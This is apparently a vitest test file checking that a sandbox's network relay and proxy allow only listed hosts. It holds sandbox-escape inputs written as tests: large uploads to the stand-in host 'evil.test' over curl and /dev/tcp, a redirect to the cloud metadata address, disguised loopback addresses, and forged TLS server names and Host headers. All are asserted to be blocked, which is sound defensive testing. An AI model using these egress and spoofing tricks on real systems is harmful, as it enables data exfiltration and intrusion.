import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeDirectory } from '../support/harness.ts';
import { buildRelay, type Outcome, runInside } from '../support/sandboxes/run-relay.ts';
import {
  eventually,
  makeCertificate,
  openProxy,
  startTlsWeb,
  startWeb,
  type TestProxy,
} from '../support/servers/test-proxy.ts';

/** Really from inside a network namespace, with curl and Node, through relay and proxy to servers on loopback. */
const scope = new AsyncDisposableStack();
let proxy: TestProxy;
let web: Awaited<ReturnType<typeof startWeb>>;
let secureWeb: Awaited<ReturnType<typeof startWeb>>;
let run: (...argv: string[]) => Promise<Outcome>;
let curl: (...args: string[]) => Promise<Outcome>;
const node = (script: string) => run(process.execPath, '-e', script);

beforeAll(async () => {
  const certificate = makeCertificate('good.test', 'other.test');
  const files = scope.use(makeDirectory({ 'ca.pem': certificate.cert }));
  const { program: relay } = scope.use(buildRelay());
  web = scope.use(
    await startWeb((request, response) => {
      if (request.url === '/away') response.writeHead(302, { location: 'http://169.254.169.254/latest/' }).end();
      else if (request.url === '/big') response.end(Buffer.alloc(50_000_000, 'big'));
      else if (request.url === '/slow') setTimeout(() => response.end('slow'), 300);
      else if (request.method === 'POST') request.pipe(createHash('sha256').setEncoding('hex')).pipe(response);
      else response.end(`plain ${request.headers.host}`);
    }),
  );
  secureWeb = scope.use(await startTlsWeb(certificate, (_, response) => response.end('secure')));
  const ports = [web.port, secureWeb.port];
  proxy = scope.use(
    await openProxy({
      domains: ports.map((port) => `good.test:${port}`),
      cidrs: ports.map((port) => `127.0.0.1/32:${port}`),
      names: { 'good.test': ['127.0.0.1'], 'other.test': ['127.0.0.1'] },
    }),
  );
  run = (...argv) => runInside({ relay, socketPath: proxy.socketPath }, argv);
  curl = (...args) => run('curl', '-sS', '--max-time', '20', '--cacert', files.at('ca.pem'), ...args);
});
afterAll(() => scope.disposeAsync());

describe('an allowed host is reached', () => {
  test('by HTTP and by HTTPS', async () => {
    expect(await curl(`http://good.test:${web.port}/`)).toMatchObject({
      stdout: `plain good.test:${web.port}`,
      code: 0,
    });
    expect(await curl(`https://good.test:${secureWeb.port}/`)).toMatchObject({ stdout: 'secure', code: 0 });
  });

  test('by Node, which needs the proxy variables', async () => {
    const { stdout } = await node(`fetch('http://good.test:${web.port}/').then((r) => r.text()).then(console.log)`);
    expect(stdout.trim()).toBe(`plain good.test:${web.port}`);
  });

  test('with bodies of any size, in both directions', async () => {
    using files = makeDirectory();
    const body = Buffer.alloc(30_000_000, 'upload');
    writeFileSync(files.at('body'), body);
    const up = await curl('--data-binary', `@${files.at('body')}`, `http://good.test:${web.port}/`);
    expect(up.stdout).toBe(createHash('sha256').update(body).digest('hex'));
    const down = await run('sh', '-c', `curl -s http://good.test:${web.port}/big | sha256sum`);
    expect(down.stdout).toContain(createHash('sha256').update(Buffer.alloc(50_000_000, 'big')).digest('hex'));
  });

  test('by more connections than the limit, one after the other', async () => {
    const urls = Array.from({ length: 200 }, () => `http://good.test:${web.port}/slow`);
    const { stdout, code } = await run('curl', '-sS', '-Z', '--parallel-max', '200', '--parallel-immediate', ...urls);
    expect([code, stdout]).toEqual([0, 'slow'.repeat(200)]);
  });

  test('while its own servers are reached without the proxy', async () => {
    const denials = proxy.denials.length;
    const { stdout } = await run(
      'sh',
      '-c',
      `${process.execPath} -e "require('http').createServer((q, r) => r.end('own')).listen(8000, '127.0.0.1')" & for i in 1 2 3 4 5 6 7 8 9; do curl -s http://localhost:8000/ && break; sleep 0.3; done; kill %1`,
    );
    expect(stdout).toBe('own');
    expect(proxy.denials).toHaveLength(denials);
  });
});

describe('a host that is not allowed is refused, with the reason for the program:', () => {
  test('by HTTP and HTTPS', async () => {
    const { stdout } = await curl('http://evil.test/');
    expect(stdout).toContain('(rule: domains)');
    expect(stdout).toContain('evil.test is not an allowed domain');
    const secure = await curl('-v', 'https://evil.test/');
    expect([secure.code, secure.stderr]).toEqual([
      56,
      expect.stringContaining('403 Blocked by network policy (domains): evil.test'),
    ]);
    expect(proxy.denials.filter(({ host }) => host === 'evil.test')).toMatchObject([{ port: 80 }, { port: 443 }]);
    expect(proxy.lookups).not.toContain('evil.test');
  });

  test('an upload, although the program reads only after it has sent all', async () => {
    using files = makeDirectory({ body: Buffer.alloc(30_000_000) });
    const { code, stdout } = await curl('-H', 'Expect:', '--data-binary', `@${files.at('body')}`, 'http://evil.test/');
    expect([code, stdout]).toEqual([0, expect.stringContaining('(rule: domains)')]);
    const stubborn = await run(
      'bash',
      '-c',
      `exec 3<>/dev/tcp/127.0.0.1/3128
      printf 'POST http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nContent-Length: 30000000\\r\\n\\r\\n' >&3
      head -c 30000000 /dev/zero >&3 || exit 1
      head -1 <&3`,
    );
    expect(stubborn).toMatchObject({ code: 0, stdout: expect.stringContaining('403 Blocked by network policy') });
    const script = `
      const request = require('http').request('http://evil.test/', { method: 'POST' }, (reply) => reply.pipe(process.stdout));
      request.end(Buffer.alloc(30_000_000))`;
    expect((await node(script)).stdout).toContain('(rule: domains)');
  });

  test('the target of a redirect', async () => {
    const { stdout } = await curl('-L', `http://good.test:${web.port}/away`);
    expect(stdout).toContain('169.254.169.254 is an address that no CIDR of the sandbox names');
  });

  test.each([
    'http://127.1/',
    'http://2130706433/',
    'http://0x7f.0.0.1/',
    'http://[::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://1.1.1.1/',
  ])('%s, however curl spells it', async (url) => {
    expect((await curl('--noproxy', '', url)).stdout).toContain('Blocked by the network policy');
  });

  test('a forged server name in the TLS hello', async () => {
    const before = secureWeb.seen.bytes;
    const { code, stderr } = await curl(
      '--connect-to',
      `other.test:443:good.test:${secureWeb.port}`,
      'https://other.test/',
    );
    expect([code, stderr]).toEqual([35, expect.stringMatching(/access denied/i)]);
    expect(secureWeb.seen.bytes).toBe(before);
  });

  test('a forged Host header', async () => {
    const { stdout } = await curl('-H', 'Host: evil.test', `http://good.test:${web.port}/`);
    expect(stdout).toContain('The Host header and the URL name different servers');
  });
});

describe('a sandbox has no other way out:', () => {
  test('none past the proxy: neither the host nor an address beyond it', async () => {
    const before = web.seen.connections;
    expect((await curl('--noproxy', '*', `http://127.0.0.1:${web.port}/`)).code).toBe(7);
    // An address for documentation, which nobody has.
    expect((await curl('--noproxy', '*', 'http://192.0.2.1/')).code).toBe(7);
    const direct = await run('bash', '-c', `exec 3<>/dev/tcp/127.0.0.1/${web.port}`);
    expect([direct.code, direct.stderr]).toEqual([1, expect.stringContaining('refused')]);
    expect(web.seen.connections).toBe(before);
  });

  test('no name is resolved inside', async () => {
    expect((await curl('--noproxy', '*', `http://good.test:${web.port}/`)).code).toBe(6);
    expect((await run('getent', 'hosts', 'example.com')).code).toBe(2);
  });

  test('no datagram leaves', async () => {
    const script = `const s = require('dgram').createSocket('udp4'); s.on('error', (e) => (console.log(e.code), s.close())); s.send('x', 53, '192.0.2.1', (e) => { console.log(e?.code ?? 'sent'); s.close(); })`;
    expect((await node(script)).stdout.trim()).toBe('ENETUNREACH');
  });

  test('the socket of the proxy follows the same policy', async () => {
    const script = `const s = require('net').connect('/run/proxy.sock'); s.pipe(process.stdout); s.write('GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')`;
    expect((await node(script)).stdout).toContain('evil.test is not an allowed domain');
  });
});

test('a program that does not read slows the server down through relay and proxy', async () => {
  const before = { ...web.seen };
  const script = `
    const s = require('net').connect(3128, '127.0.0.1').pause();
    s.write('GET http://good.test:${web.port}/big HTTP/1.1\\r\\nHost: good.test:${web.port}\\r\\n\\r\\n');
    setTimeout(() => process.exit(), 1000)`;
  const running = node(script);
  await eventually(() => web.seen.connections > before.connections);
  const [server] = [...web.sockets].filter((socket) => !socket.destroyed);
  await new Promise((resolve) => setTimeout(resolve, 500));
  expect(server!.bytesWritten - server!.writableLength).toBeLessThan(20_000_000);
  await running;
  await eventually(() => server!.destroyed);
});
